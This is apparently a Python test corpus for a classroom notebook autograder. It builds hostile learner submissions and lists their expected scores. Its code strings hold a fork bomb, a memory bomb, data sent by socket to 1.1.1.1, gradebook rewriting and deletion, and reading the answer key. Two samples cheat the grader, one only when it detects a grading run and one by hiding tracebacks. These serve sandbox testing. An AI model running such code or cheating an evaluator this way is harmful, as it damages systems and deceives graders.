"""A corpus of hostile and broken submissions, each with its expected outcome.

The assignment ``c5_corpus`` (built with ``coursetools.authoring`` in a scratch course) has two autograded
criteria, like the course's assignments: ``c5_1_test`` (2 points: a rate computed in code, with a hidden
test) and ``c5_2_test`` (2 points: a widget's state file ``plan.json`` next to the notebook). Each test cell
imports what it needs, so a cell after a kernel restart is graded on its own.

Every case starts from the learner's copy (``release/``), answers it correctly (``taux = 4.5`` and a valid
``plan.json``) unless said otherwise, then breaks or attacks something. ``expected`` gives the score of
each test cell; ``explains`` is a French text that must appear in the grading outcome or in the graded
notebook, telling the trainer and the learner what happened.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from coursetools import authoring as au

ASSIGNMENT = "c5_corpus"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
FULL = {"c5_1_test": 2.0, "c5_2_test": 2.0}
GOOD_PLAN = {"schema_version": 1, "publications": [
    {"jour": "lundi", "heure": 8, "reseau": "instagram"},
    {"jour": "mercredi", "heure": 12, "reseau": "facebook"},
    {"jour": "samedi", "heure": 10, "reseau": "instagram"},
]}

TEST_RATE = '''
from autograder.results import CheckResult, grade
r = CheckResult("C5.1", "Taux d'engagement")
try:
    valeur = float(taux)
except (TypeError, ValueError):
    valeur = None
r.add(valeur is not None and abs(valeur - 4.5) < 0.01, 2, "Taux d'engagement juste : 4,5 %.", "Taux attendu : 4,5 % (interactions / portée × 100).")
### BEGIN HIDDEN TESTS
assert isinstance(taux, float), "le taux doit être un nombre décimal"
### END HIDDEN TESTS
grade(r)
'''
TEST_PLAN = '''
from autograder.results import CheckResult, grade
from autograder.storage import load_state
etat, message = load_state("plan.json", None)
r = CheckResult("C5.2", "Plan de publication")
if message:
    r.note(message, ok=False)
pubs = etat.get("publications") if isinstance(etat, dict) else None
valide = (isinstance(pubs, list) and 3 <= len(pubs) <= 14
          and all(isinstance(p, dict) and isinstance(p.get("heure"), int) and 0 <= p["heure"] <= 23 for p in pubs))
r.add(valide, 2, "Plan de publication valide.", "Plan attendu dans plan.json : de 3 à 14 publications, heures de 0 à 23.")
grade(r)
'''


def build_source(course: Path) -> None:
    """Write ``source/c5_corpus/c5_corpus.ipynb`` in the scratch course."""
    au.write_notebook(course / "source" / ASSIGNMENT / NOTEBOOK, [
        au.md("# Évaluation d'essai : taux d'engagement et plan de publication"),
        au.locked_code("import json\nfrom autograder.results import CheckResult, grade", grade_id="c5_1_imports"),
        au.md("Calculez le taux d'engagement (en %) : 45 interactions pour une portée de 1 000 personnes."),
        au.solution("### BEGIN SOLUTION\ntaux = 45 / 1000 * 100\n### END SOLUTION", grade_id="c5_1_reponse"),
        au.tests(TEST_RATE, grade_id="c5_1_test", points=2),
        au.md("Préparez votre plan de publication avec le widget : il est enregistré dans `plan.json`."),
        au.tests(TEST_PLAN, grade_id="c5_2_test", points=2),
    ])


@dataclass
class Case:
    name: str
    what: str  # the attack or breakage, in French (for the report)
    mutate: Callable[[Path, dict], None] | None = None  # (submission folder, context) → None
    answer: str | None = "taux = 4.5"  # source of c5_1_reponse (None: untouched release stub)
    plan: object = field(default_factory=lambda: GOOD_PLAN)  # content of plan.json (None: no file)
    expected: dict = field(default_factory=lambda: dict(FULL))  # grade_id → score
    # texts the trainer or learner reads about it (French explanation, evidence); a tuple inside lists
    # alternatives, one of which must appear (a fork bomb is stopped by the process limit or by the timeout)
    explains: tuple[str | tuple[str, ...], ...] = ()
    refused: bool = False  # the whole submission is refused: 0 (or no score at all), a French reason

    @property
    def student(self) -> str:
        return f"cas_{self.name}"


# -- helpers on the learner's notebook ------------------------------------------------------------------------


def _nb(folder: Path):
    return nbformat.read(str(folder / NOTEBOOK), as_version=4)


def _save(folder: Path, nb) -> None:
    nbformat.write(nb, str(folder / NOTEBOOK))


def _index(nb, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _edit(grade_id: str, change: Callable) -> Callable[[Path, dict], None]:
    def mutate(folder: Path, ctx: dict) -> None:
        nb = _nb(folder)
        change(nb, _index(nb, grade_id))
        _save(folder, nb)
    return mutate


def _set_source(grade_id: str, source: str) -> Callable[[Path, dict], None]:
    return _edit(grade_id, lambda nb, i: nb.cells[i].__setitem__("source", source))


def _answer(code: str) -> str:
    return code.strip("\n")


# -- the corpus -----------------------------------------------------------------------------------------------

READ_SOURCE = r'''
import glob, os, re
taux = None
for chemin in glob.glob("../../../source/*/*.ipynb") + glob.glob("{root}/source/*/*.ipynb"):
    texte = open(chemin, encoding="utf-8").read()
    taux = float(re.search(r"taux = ([0-9./ *]+)", texte).group(1).split("/")[0]) / 10
print("source lue :", taux)
'''
READ_OTHERS = r'''
import shutil
taux = 4.5
for chemin in ("../../cas_reference_juste/c5_corpus/plan.json",
               "{root}/submitted/cas_reference_juste/c5_corpus/plan.json"):
    try:
        shutil.copyfile(chemin, "plan.json")
        print("copié :", chemin)
    except OSError as exc:
        print("refusé :", type(exc).__name__)
'''
GRADEBOOK = r'''
import os, sqlite3
taux = 1.0
for chemin in ("../../../gradebook.db", "{root}/gradebook.db"):
    try:
        with sqlite3.connect(chemin) as db:
            db.execute("UPDATE grade SET auto_score = 2")
            db.execute("DELETE FROM submitted_assignment WHERE 1")
        print("carnet modifié")
    except Exception as exc:
        print("carnet inaccessible :", type(exc).__name__)
    try:
        os.remove(chemin)
    except OSError as exc:
        print("suppression refusée :", type(exc).__name__)
'''
DETECT_GRADING = r'''
import os
taux = 1.0
if os.environ.get("NBGRADER_EXECUTION"):
    import autograder.results as R
    R.CheckResult.add = lambda self, ok, points, *args, **kwargs: True
    R.CheckResult.points = property(lambda self: 2.0)
'''
HIDE_TRACEBACK = r'''
import sys
from IPython.core.interactiveshell import InteractiveShell
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None
InteractiveShell.showtraceback = lambda *a, **k: None
sys.excepthook = lambda *a: None
taux = "4.5"
'''
DEAF_LOOP = r'''
import time
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
'''
FORK_BOMB = r'''
import os
while True:
    os.fork()
'''


def _write(name: str, content: bytes | str) -> Callable[[Path, dict], None]:
    def mutate(folder: Path, ctx: dict) -> None:
        data = content.encode("utf-8") if isinstance(content, str) else content
        (folder / name).write_bytes(data)
    return mutate


def _rename(folder: Path, ctx: dict) -> None:
    (folder / NOTEBOOK).rename(folder / "ma_copie_finale.ipynb")


def _remove_notebook(folder: Path, ctx: dict) -> None:
    (folder / NOTEBOOK).unlink()


def _truncate(folder: Path, ctx: dict) -> None:
    text = (folder / NOTEBOOK).read_text(encoding="utf-8")
    (folder / NOTEBOOK).write_text(text[: len(text) // 2], encoding="utf-8")


def _delete_cell(grade_id: str):
    return _edit(grade_id, lambda nb, i: nb.cells.pop(i))


def _duplicate_test(nb, i):
    clone = nbformat.from_dict(json.loads(json.dumps(nb.cells[i])))
    clone["id"] = "clone-du-test"
    clone.source = "print('copie du test')\n2"
    nb.cells.insert(i + 1, clone)


def _move_test_first(nb, i):
    cell = nb.cells.pop(i)
    nb.cells.insert(0, cell)


def _to_markdown(nb, i):
    cell = nb.cells[i]
    nb.cells[i] = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata, id=cell.get("id"))


def _rename_grade_id(nb, i):
    nb.cells[i].metadata["nbgrader"]["grade_id"] = "c5_1_test_a_moi"


def _strip_hidden(nb, i):
    nb.cells[i].source = "from autograder.results import grade\n2"


def _with_root(template: str) -> Callable[[Path, dict], None]:
    def mutate(folder: Path, ctx: dict) -> None:
        nb = _nb(folder)
        nb.cells[_index(nb, "c5_1_reponse")].source = _answer(template.replace("{root}", str(ctx["root"])))
        _save(folder, nb)
    return mutate


OVERWRITE_OTHER = r'''
taux = 4.5
for chemin in ("../../cas_reference_juste/c5_corpus/plan.json",
               "{root}/submitted/cas_reference_juste/c5_corpus/plan.json",
               "{root}/submitted/cas_ecrase_autre_copie/c5_corpus/c5_corpus.ipynb"):
    try:
        with open(chemin, "w") as fichier:
            fichier.write("{{}}")
        print("ÉCRIT :", chemin)
    except OSError as exc:
        print("écriture refusée :", type(exc).__name__)
'''
NETWORK = r'''
import socket, urllib.request
taux = 4.5
for hote in ("1.1.1.1", "127.0.0.1"):
    try:
        socket.create_connection((hote, 80), timeout=3).sendall(b"notes")
        print("ENVOYÉ :", hote)
    except OSError as exc:
        print("réseau coupé :", hote, exc.errno)
'''
NO_POINTS = {"c5_1_test": 0.0, "c5_2_test": 0.0}
RATE_BROKEN = {"c5_1_test": 0.0, "c5_2_test": 2.0}
PLAN_BROKEN = {"c5_1_test": 2.0, "c5_2_test": 0.0}
REFUSED = "nbgrader a refusé la copie"

CASES: list[Case] = [
    Case("reference_juste", "copie juste (témoin : sa note ne doit pas bouger)",
         explains=("Taux d'engagement juste", "Plan de publication valide")),
    Case("reference_vide", "copie rendue sans réponse (témoin)", answer=None, plan=None, expected=NO_POINTS,
         explains=("NotImplementedError", "Plan attendu dans plan.json")),
    Case("json_invalide", "notebook tronqué : JSON invalide", _truncate, expected=NO_POINTS, refused=True,
         explains=("JSON invalide",)),
    Case("notebook_renomme", "notebook renommé", _rename, expected=NO_POINTS, refused=True, explains=(REFUSED,)),
    Case("notebook_absent", "notebook supprimé, seul plan.json rendu", _remove_notebook, expected=NO_POINTS, refused=True,
         explains=(REFUSED,)),
    Case("cellule_test_supprimee", "cellule de test supprimée", _delete_cell("c5_1_test"), expected=RATE_BROKEN,
         explains=("Plan de publication valide",)),
    Case("cellule_reponse_supprimee", "cellule de réponse supprimée", _delete_cell("c5_1_reponse"),
         expected=RATE_BROKEN, explains=("Variable inconnue",)),
    Case("cellule_dupliquee", "cellule de test dupliquée (la copie « rapporte » 2 points)",
         _edit("c5_1_test", _duplicate_test), answer="taux = 1.0", expected=NO_POINTS, explains=("non conforme",)),
    Case("cellules_deplacees", "cellule de test déplacée avant la réponse", _edit("c5_1_test", _move_test_first),
         expected=RATE_BROKEN, explains=("Variable inconnue",)),
    Case("type_change", "cellule de test changée en Markdown", _edit("c5_1_test", _to_markdown),
         answer="taux = 1.0", expected=RATE_BROKEN, explains=("Taux attendu",)),
    Case("verrouillee_modifiee", "cellule verrouillée réécrite pour tricher",
         _set_source("c5_1_imports", "grade = lambda *args: 2.0\nCheckResult = None"), answer="taux = 1.0",
         expected=RATE_BROKEN, explains=("Taux attendu",)),
    Case("test_modifie", "cellule de test remplacée par « 2 »", _set_source("c5_1_test", "2"), answer="taux = 1.0",
         expected=RATE_BROKEN, explains=("Taux attendu",)),
    Case("tests_caches_modifies", "tests cachés retirés de la cellule de test", _edit("c5_1_test", _strip_hidden),
         answer='taux = "4.5"', expected=RATE_BROKEN, explains=("nombre décimal",)),
    Case("grade_id_change", "grade_id de la cellule de test changé", _edit("c5_1_test", _rename_grade_id),
         answer="taux = 1.0", expected=NO_POINTS, explains=("non conforme",)),
    Case("boucle_infinie", "boucle infinie avant la réponse", answer="while True:\n    pass\ntaux = 4.5",
         expected=RATE_BROKEN, explains=("temps permis",)),
    Case("boucle_sourde", "boucle infinie qui ignore l'interruption", answer=DEAF_LOOP, expected=RATE_BROKEN,
         explains=("n'a pas répondu à l'interruption",)),
    Case("bombe_memoire", "bombe mémoire", answer="blocs = []\nwhile True:\n    blocs.append(bytearray(10 ** 8))",
         expected=RATE_BROKEN, explains=("Mémoire épuisée",)),
    Case("bombe_fork", "bombe fork", answer=FORK_BOMB, expected=RATE_BROKEN,
         explains=(("temps permis", "Trop de processus"),)),
    Case("sortie_enorme", "8 Mo d'affichage", answer="print('x' * 8_000_000)\ntaux = 4.5",
         explains=("Sortie tronquée",)),
    Case("sys_exit", "sys.exit() avant la réponse", answer="import sys\nsys.exit(3)\ntaux = 4.5",
         expected=RATE_BROKEN, explains=("sys.exit()",)),
    Case("plantage_noyau", "plantage du noyau (erreur de segmentation)",
         answer="import ctypes\nctypes.string_at(0)\ntaux = 4.5", expected=RATE_BROKEN,
         explains=("Le noyau s'est arrêté",)),
    Case("sortie_forcee", "os._exit() : le noyau disparaît", answer="import os\nos._exit(0)", expected=RATE_BROKEN,
         explains=("Le noyau s'est arrêté",)),
    Case("lit_source", "lit le corrigé dans source/", _with_root(READ_SOURCE), answer=None, expected=RATE_BROKEN,
         explains=("source lue : None", "Taux attendu")),
    Case("lit_autres_apprenants", "copie le plan.json d'un autre apprenant", _with_root(READ_OTHERS), answer=None,
         plan=None, expected=PLAN_BROKEN, explains=("refusé : FileNotFoundError", "Plan attendu dans plan.json")),
    Case("ecrase_autre_copie", "écrase la copie d'un autre apprenant et la sienne", _with_root(OVERWRITE_OTHER),
         answer=None, explains=("écriture refusée",)),
    Case("reecrit_carnet", "ouvre, réécrit et supprime le carnet de notes", _with_root(GRADEBOOK), answer=None,
         expected=RATE_BROKEN, explains=("carnet inaccessible", "Taux attendu")),
    Case("reseau", "envoie des données sur le réseau", _with_root(NETWORK), answer=None,
         explains=("réseau coupé : 1.1.1.1", "réseau coupé : 127.0.0.1")),
    Case("detecte_correction", "triche seulement quand NBGRADER_EXECUTION est défini",
         _with_root(DETECT_GRADING), answer=None, expected=RATE_BROKEN, explains=("Taux attendu",)),
    Case("cache_traceback", "masque les tracebacks pour cacher l'échec du test caché", _with_root(HIDE_TRACEBACK),
         answer=None, expected=RATE_BROKEN, explains=("nombre décimal",)),
    Case("etat_widget_absent", "plan.json du widget absent", plan=None, expected=PLAN_BROKEN,
         explains=("Plan attendu dans plan.json",)),
    Case("etat_widget_corrompu", "plan.json corrompu", plan=b"{\"publications\": [ {\"jour\": ",
         expected=PLAN_BROKEN, explains=("n'est pas un JSON valide", "mis de côté")),
    Case("etat_widget_force", "plan.json forgé avec des valeurs impossibles",
         plan={"schema_version": 1, "publications": [{"jour": "lundi", "heure": 99}] * 500},
         expected=PLAN_BROKEN, explains=("heures de 0 à 23",)),
    Case("horodatage_force", "horodatage de remise forgé (an 1999)",
         _write("timestamp.txt", "1999-12-31 23:59:59.000000 UTC"), explains=("Taux d'engagement juste",)),
    Case("horodatage_illisible", "horodatage de remise illisible", _write("timestamp.txt", "hier soir, promis"),
         expected=NO_POINTS, refused=True, explains=(REFUSED,)),
]


def build_submission(course: Path, case: Case) -> Path:
    """Write the submission of ``case`` into ``submitted/<student>/c5_corpus``."""
    dest = course / "submitted" / case.student / ASSIGNMENT
    if dest.exists():
        shutil.rmtree(dest)
    shutil.copytree(course / "release" / ASSIGNMENT, dest)
    if case.answer is not None:
        nb = _nb(dest)
        nb.cells[_index(nb, "c5_1_reponse")].source = _answer(case.answer)
        _save(dest, nb)
    if isinstance(case.plan, bytes):
        (dest / "plan.json").write_bytes(case.plan)
    elif case.plan is not None:
        (dest / "plan.json").write_text(json.dumps(case.plan, ensure_ascii=False), encoding="utf-8")
    if case.mutate is not None:
        case.mutate(dest, {"root": course})
    return dest
